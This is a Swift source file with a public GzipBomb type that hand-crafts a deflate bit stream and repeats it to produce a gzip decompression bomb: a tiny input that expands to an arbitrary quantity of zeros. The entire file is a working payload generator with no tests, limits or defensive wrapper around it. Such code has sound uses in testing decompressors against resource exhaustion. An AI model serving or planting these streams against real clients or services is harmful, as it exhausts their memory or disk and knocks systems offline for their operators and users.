/// Compressed zeros: 13 bytes stand for 2,064 of them, for as long as anybody reads.
public enum GzipBomb {
    private static let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    /// What begins the stream, and what may follow it any number of times.
    public static let parts: (start: [UInt8], more: [UInt8]) = {
        // A block that is not the last, in the codes that deflate brings along; a zero; and then eight times: repeat the
        // last byte 258 times.
        var bits: [UInt8] = [0, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0]
        let again: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
        for _ in 0..<24 { bits += again }
        let bytes = stride(from: 0, to: bits.count - 7, by: 8).map { start in
            (0..<8).reduce(UInt8(0)) { $0 | bits[start + $1] << UInt8($1) }
        }
        return (head + bytes[..<2], Array(bytes[2..<15]))
    }()

    /// A stream, without its end, of about so many zeros.
    public static func bytes(unpacking count: Int) -> [UInt8] {
        parts.start + repeatElement(parts.more, count: count / 2_064).joined()
    }
}
